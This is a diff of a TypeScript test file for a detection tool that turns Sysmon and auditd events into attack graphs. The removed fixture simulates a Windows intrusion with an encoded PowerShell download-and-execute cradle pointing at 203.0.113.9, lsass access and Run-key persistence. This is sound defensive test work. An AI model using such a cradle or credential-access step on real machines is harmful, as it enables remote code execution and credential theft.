@@ -1,134 +1,162 @@
-import type { EventData, EventType, NormalizedEvent, Platform } from '../contracts/event.ts';
-import { FEATURES, type HeteroGraph, NODE_TYPES, RELATIONS, type WindowOf } from '../contracts/graph.ts';
-import { idOf } from '../contracts/ids.ts';
+import fc from 'fast-check';
+import { EVENT_TYPES, type EventData, PLATFORMS } from '../contracts/event.ts';
 import { buildGraph } from './build-graph.ts';
-import { addToPane, decodePane, emptyPane, encodePane, type Pane } from './pane.ts';
+import { eventAt, graphOf, linuxAttack, panesOf, windowOf, windowsAttack } from './graph-fixtures.ts';
+import { addToPane, decodePane, emptyPane, encodePane, settlePane } from './pane.ts';
 
-const END = 1_700_000_100;
+const CAST = { user: 'bo', address: '203.0.113.9' };
+const STORIES = { windows: windowsAttack(CAST), linux: linuxAttack(CAST) };
 
-function event(platform: Platform, at: number, type: EventType, data: EventData): NormalizedEvent {
-  return {
-    schema_version: 1,
-    event_id: idOf('event', platform, String(at), type, JSON.stringify(data)),
-    tenant_id: 'default',
-    endpoint_id: 'ws-1',
-    hostname: 'ws-1',
-    platform,
-    source: platform === 'windows' ? 'sysmon' : 'auditd',
-    event_type: type,
-    timestamp: END - 180 + at,
-    ingested_at: END,
-    data,
-    warnings: [],
-  };
-}
+describe.each(PLATFORMS)('a pane of %s', (platform) => {
+  const expected = graphOf(platform, STORIES[platform]);
 
-const windowOf = (platform: Platform): WindowOf => ({
-  tenantId: 'default',
-  endpointId: 'ws-1',
-  hostname: 'ws-1',
-  platform,
-  start: END - 180,
-  end: END,
+  test('builds an equal graph after encodePane() and decodePane(), before and after it was asked for one', () => {
+    for (const prepare of [() => undefined, settlePane]) {
+      const panes = panesOf(platform, STORIES[platform]);
+      panes.forEach(prepare);
+      expect(
+        buildGraph(
+          windowOf(platform),
+          panes.map((pane) => decodePane(encodePane(pane))),
+        ),
+      ).toEqual(expected);
+    }
+  });
+
+  test('takes events after a checkpoint as if there had been none, also older ones', () => {
+    const events = STORIES[platform]
+      .filter(({ timestamp }) => timestamp < windowOf(platform).start + 30)
+      .reverse();
+    for (let cut = 0; cut <= events.length; cut++) {
+      const pane = emptyPane(platform, windowOf(platform).start);
+      for (const event of events.slice(0, cut)) addToPane(pane, event);
+      const restored = decodePane(encodePane(pane));
+      for (const event of events.slice(cut)) addToPane(restored, event);
+      expect(buildGraph(windowOf(platform), [restored])).toEqual(graphOf(platform, events));
+    }
+  });
+
+  test('builds the same graph however often it is asked', () => {
+    const panes = panesOf(platform, STORIES[platform]);
+    const graphs = [1, 2, 3].map(() => buildGraph(windowOf(platform), panes));
+    for (const graph of graphs) expect(graph).toEqual(expected);
+  });
 });
 
-function panesOf(platform: Platform, events: readonly NormalizedEvent[]): Pane[] {
-  const panes = Array.from({ length: 6 }, (_, i) => emptyPane(platform, END - 180 + i * 30));
-  for (const one of events) {
-    const pane = panes[Math.floor((one.timestamp - (END - 180)) / 30)];
-    if (pane) addToPane(pane, one);
-  }
-  return panes;
-}
+test('decodePane() refuses what is no checkpoint', () => {
+  expect(() => decodePane(Buffer.from('{'))).toThrow(/no JSON/);
+  expect(() => decodePane(Buffer.from('{"form":9}'))).toThrow(/form 9/);
+  expect(() => decodePane(Buffer.from('null'))).toThrow(/form undefined/);
+});
 
-const graphOf = (platform: Platform, events: readonly NormalizedEvent[]): HeteroGraph =>
-  buildGraph(windowOf(platform), panesOf(platform, events));
+const TEXT_KEYS = [
+  'process_guid',
+  'image',
+  'command_line',
+  'user',
+  'user_id',
+  'integrity_level',
+  'original_file_name',
+  'parent_image',
+  'parent_process_guid',
+  'source_image',
+  'target_image',
+  'target_process_guid',
+  'granted_access',
+  'call_trace',
+  'target_filename',
+  'old_filename',
+  'image_loaded',
+  'signature_status',
+  'device',
+  'pipe_name',
+  'protocol',
+  'source_ip',
+  'destination_ip',
+  'query_name',
+  'query_status',
+  'registry_action',
+  'target_object',
+  'details',
+  'wmi_query',
+  'syscall',
+  'script_text',
+  'script_path',
+  'service_name',
+  'task_name',
+  'share_name',
+] as const;
+const NUMBER_KEYS = [
+  'process_id',
+  'process_start',
+  'parent_process_id',
+  'target_process_id',
+  'file_mode',
+  'source_port',
+  'destination_port',
+] as const;
 
-/** Edges as text: `source label -relation-> target label ×count`. */
-function told(graph: HeteroGraph): string[] {
-  const relations = RELATIONS[graph.window.platform];
-  return [...graph.source].map(
-    (source, edge) =>
-      `${graph.labels[source]} -${relations[graph.relation[edge]!]!.name}-> ${graph.labels[graph.target[edge]!]} ×${graph.count[edge]}`,
-  );
-}
-
-const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
-const encoded = Buffer.from(
-  "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
-  'utf16le',
-);
-const WINDOWS: readonly NormalizedEvent[] = [
-  event('windows', 1, 'process_create', {
-    process_guid: '{A1}',
-    process_id: 500,
-    image: PS,
-    command_line: `powershell.exe -nop -w hidden -enc ${encoded.toString('base64')}`,
-    integrity_level: 'High',
-    user: 'ACME\\bo',
-    parent_process_guid: '{A0}',
-    parent_process_id: 400,
-    parent_image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
-  }),
-  event('windows', 35, 'network_connect', {
-    process_guid: '{A1}',
-    process_id: 500,
-    image: PS,
-    protocol: 'tcp',
-    destination_ip: '203.0.113.9',
-    destination_port: 80,
-    initiated: true,
-  }),
-  event('windows', 40, 'script_block', { process_id: 500, script_text: 'Get-Process lsass' }),
-  event('windows', 41, 'registry_value', {
-    process_guid: '{A1}',
-    process_id: 500,
-    target_object: 'HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd',
-    details: 'C:\\Users\\bo\\AppData\\x.exe',
-  }),
-  ...[50, 51, 52].map((at) =>
-    event('windows', at, 'process_access', {
-      process_guid: '{A1}',
-      process_id: 500,
-      source_image: PS,
-      target_process_guid: '{B0}',
-      target_process_id: 640,
-      target_image: 'C:\\Windows\\System32\\lsass.exe',
-      granted_access: '0x1410',
-      call_trace: 'ntdll.dll+1|UNKNOWN(0001)',
-    }),
+const text = fc.oneof(
+  fc.string({ unit: 'binary', maxLength: 40 }),
+  fc.constantFrom(
+    '__proto__',
+    'constructor',
+    'toString',
+    '',
+    '-',
+    '\0',
+    '\ud800',
+    '|',
+    'a|b|c',
+    '\\\\',
+    '//',
+    '../..',
   ),
-  event('windows', 60, 'file_create', {
-    process_guid: '{A1}',
-    target_filename: 'C:\\Users\\bo\\AppData\\x.exe',
+  fc.constantFrom(
+    'C:\\Windows\\System32\\cmd.exe',
+    '/bin/sh',
+    'sh -c "x"',
+    '::1',
+    '224.0.0.1',
+    '0x1fffff',
+    'HKLM\\A\\B',
+  ),
+  fc.integer({ min: 1, max: 4 }).map((kilo) => 'A%5c\\'.repeat(kilo * 20_000)),
+);
+const number = fc.oneof(
+  fc.integer({ min: -5, max: 70_000 }),
+  fc.constantFrom(0, 4, 1, 2 ** 31, Number.MAX_SAFE_INTEGER),
+);
+const texts = Object.fromEntries(TEXT_KEYS.map((key) => [key, text]));
+const numbers = Object.fromEntries(NUMBER_KEYS.map((key) => [key, number]));
+const anyData = fc.record(
+  { ...texts, ...numbers, success: fc.boolean(), signed: fc.boolean() },
+  { requiredKeys: [] },
+);
+const anyEvents = fc.array(
+  fc.record({
+    type: fc.constantFrom(...EVENT_TYPES),
+    data: anyData,
+    at: fc.double({ min: 0, max: 179, noNaN: true }),
   }),
-  event('windows', 61, 'image_load', {
-    process_guid: '{A1}',
-    image_loaded: 'C:\\Users\\bo\\AppData\\x.exe',
-    signed: false,
-  }),
-];
+  { maxLength: 30 },
+);
 
-describe('buildGraph()', () => {
-  test('tells a Windows attack as one graph, its repeated events merged', () => {
-    const graph = graphOf('windows', WINDOWS);
-    expect(told(graph)).toEqual([
-      'WINWORD.EXE (400) -spawned-> powershell.exe (500) ×1',
-      `powershell.exe (500) -executed-> ${PS} ×1`,
-      "powershell.exe (500) -executed-> IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a') ×1",
-      'powershell.exe (500) -connected-to-> 203.0.113.9:80/tcp ×1',
-      'powershell.exe (500) -executed-> Get-Process lsass ×1',
-      'powershell.exe (500) -set-> hku\\*\\software\\microsoft\\windows ×1',
-      'powershell.exe (500) -accessed-> lsass.exe (640) ×3',
-      'powershell.exe (500) -wrote-> C:\\Users\\bo\\AppData\\x.exe ×1',
-      'powershell.exe (500) -executed-> C:\\Users\\bo\\AppData\\x.exe ×1',
-    ]);
-    expect(graph.nodesPerType).toEqual([3, 2, 2, 1, 1]);
-    expect(graph.eventCount).toBe(WINDOWS.length);
-  });
-
-  test('decodePane(encodePane()) builds an equal graph', () => {
-    const panes = panesOf('windows', WINDOWS).map((pane) => decodePane(encodePane(pane)));
-    expect(buildGraph(windowOf('windows'), panes)).toEqual(graphOf('windows', WINDOWS));
-  });
+test('whatever events hold, features are finite and within 4, places exist, and checkpoints are equal', () => {
+  fc.assert(
+    fc.property(fc.constantFrom(...PLATFORMS), anyEvents, (platform, seeds) => {
+      const events = seeds.map(({ type, data, at }) => eventAt(platform, at, type, data as EventData));
+      const panes = panesOf(platform, events);
+      const restored = panes.map((pane) => decodePane(encodePane(pane)));
+      const graph = buildGraph(windowOf(platform), panes);
+      expect(graph.features.every((value) => Math.abs(value) <= 4)).toBe(true);
+      const nodes = graph.nodesPerType.reduce((sum, count) => sum + count, 0);
+      expect(graph.labels).toHaveLength(nodes);
+      expect([...graph.source, ...graph.target].every((place) => place >= 0 && place < nodes)).toBe(true);
+      expect(graph.source.every((place) => place < graph.nodesPerType[0]!)).toBe(true);
+      expect(graph.eventCount).toBe(events.length);
+      expect(buildGraph(windowOf(platform), restored)).toEqual(graph);
+    }),
+    { numRuns: 150 },
+  );
 });
